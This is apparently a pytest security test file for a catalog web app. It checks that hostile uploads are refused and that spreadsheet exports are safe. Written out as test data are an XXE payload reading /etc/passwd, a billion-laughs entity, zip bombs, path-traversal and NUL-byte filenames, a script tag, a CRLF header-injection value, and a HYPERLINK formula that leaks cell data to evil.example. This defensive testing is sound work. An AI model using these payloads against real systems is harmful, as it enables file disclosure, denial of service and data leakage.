"""Files somebody sends that are not what they seem, and files we hand out that somebody opens in a spreadsheet."""

import csv
import io
import zipfile
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import TestResponse, encode_multipart

from bot.tables import csv_content, xlsx_content
from bot.workers.roles import Role
from community_catalog.elements import ELEMENTS, element_text
from tests.accessibility.walk import Walk, is_file, starts
from tests.attack.rounds import one_each, opened, tables, with_token
from tests.bot.console.browsing import Browsing
from tests.community_catalog.builders import DIBAO
from tests.district import District, a_district, login_of

UPLOAD = "/console/catalog/uploads/new"
HEADINGS = ["事项编码", *ELEMENTS.values()]
ROW = [DIBAO.code, *(element_text(DIBAO.element(name)) for name in ELEMENTS)]
GOOD = xlsx_content(HEADINGS, [ROW])
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 9999 + b'">]><a>&b;&b;</a>'
FORMULA = '=HYPERLINK("http://evil.example"&A1,"x")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def packed(**parts: bytes) -> bytes:
    """A zip with these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in parts.items():
            written.writestr(name, content)
    return file.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """A good workbook in which one part is another."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as good, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as written:
        for part in good.namelist():
            written.writestr(part, content if part == name else good.read(part))
    return file.getvalue()


TRICKS = {
    "a bomb": ("a.xlsx", packed(**{"xl/worksheets/sheet1.xml": b"0" * 80_000_000})),
    "a bomb in a good file": ("a.xlsx", with_part("docProps/core.xml", b" " * 80_000_000)),
    "another kind": ("a.xlsx", b"%PDF-1.7 not a table"),
    "a page": ("a.csv.html", b"<script>alert(1)</script>"),
    "no kind": ("目录", GOOD),
    "macros": ("a.xlsm", GOOD),
    "a path": ("../../../../etc/cron.d/a.csv", b"x"),
    "a nul": ("a.csv\0.exe", b"x"),
    "nuls inside": ("a.csv", b"\0" * 1000),
    "outside entities": ("a.xlsx", with_part("xl/workbook.xml", ENTITIES)),
    "a billion laughs": ("a.xlsx", with_part("xl/worksheets/sheet1.xml", LAUGHS)),
    "too many rows": ("a.csv", csv_content(HEADINGS, [ROW] * 21_000)),
    "one endless line": ("a.csv", b'"' + b"x" * 9_000_000),
    "nothing": ("a.csv", b""),
    "a table in a zip": ("a.zip", packed(**{"../../a.csv": b"x"})),
}


def sent(browsing: Browsing, name: str, content: bytes) -> TestResponse:
    """The answer to a form with this file."""
    file = FileStorage(io.BytesIO(content), filename=name)
    boundary, body = encode_multipart({"form_token": browsing.token, "file": file})
    return browsing.client.post(UPLOAD, data=body, content_type=f"multipart/form-data; boundary={boundary}")


@pytest.mark.parametrize("trick", TRICKS)
def test_no_file_does_more_than_be_refused(district: District, trick: str) -> None:
    before, browsing = tables(district), with_token(district, login_of(Role.CATALOG_ADMIN))
    name, content = TRICKS[trick]

    answer = sent(browsing, name, content)

    assert answer.status_code in {400, 413, 422}
    assert "root:" not in answer.text
    assert "<script>alert" not in answer.text
    assert tables(district) == before


def test_a_good_file_is_taken_so_that_the_others_were_refused_for_what_they_are(district: District) -> None:
    browsing = with_token(district, login_of(Role.CATALOG_ADMIN))

    assert sent(browsing, "目录.xlsx", GOOD).status_code == 303


@pytest.fixture(scope="module")
def spreadsheets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[District]:
    """A district where every text that somebody could have written is a formula."""
    with a_district(tmp_path_factory.mktemp("formulas"), lambda text: f"{FORMULA}{text}") as built:
        yield built


def handed_out(district: District) -> dict[str, tuple[str, bytes]]:
    """Every file one can take away, with its kind."""
    office = district.client(login_of(Role.DISCLOSURE_OFFICE))
    walk = Walk(district.app, office, console=True)
    walk.go(starts(district, console=True))
    lists = {page.address.split("?")[0] + "?export=xlsx" for page in walk.pages}
    whole = {address for rule, address in one_each(district, "GET") if not is_file(rule.endpoint)}
    answers = {address: opened(office, address) for address in lists | whole}
    return {
        address: (answer.mimetype or "", answer.data)
        for address, answer in answers.items()
        if answer.status_code == 200 and ("csv" in (answer.mimetype or "") or "sheet" in (answer.mimetype or ""))
    }


def test_nothing_we_hand_out_is_a_formula_where_it_is_opened(spreadsheets: District) -> None:
    files = handed_out(spreadsheets)

    cells = {address: list(_cells(*file)) for address, file in files.items()}

    assert len(files) > 5
    assert {address: bad for address, found in cells.items() if (bad := [cell for cell in found if _runs(*cell)])} == {}
    assert any("HYPERLINK" in text for found in cells.values() for text, _ in found)


def _cells(kind: str, content: bytes) -> Iterator[tuple[str, str]]:
    """Texts with the kind of their cell; of a .csv the spreadsheet decides."""
    if "csv" in kind:
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        yield from ((text, "csv") for row in rows for text in row)
        return
    for sheet in load_workbook(io.BytesIO(content)):
        yield from ((str(cell.value or ""), str(cell.data_type)) for row in sheet.iter_rows() for cell in row)


def _runs(text: str, kind: str) -> bool:
    return kind == "f" or (kind == "csv" and text.startswith(STARTS))


def test_no_file_we_hand_out_has_a_name_that_is_a_path_or_a_header(spreadsheets: District) -> None:
    office = spreadsheets.client(login_of(Role.DISCLOSURE_OFFICE))
    for address in handed_out(spreadsheets):
        about = opened(office, f"{address}{'&' if '?' in address else '?'}name=..%2f..%2fa%0d%0aX-Evil:1").headers
        name = about.get("Content-Disposition", "")
        assert "/" not in name.replace("UTF-8''", "").replace("%2F", "?"), address
        assert "X-Evil" not in about, address
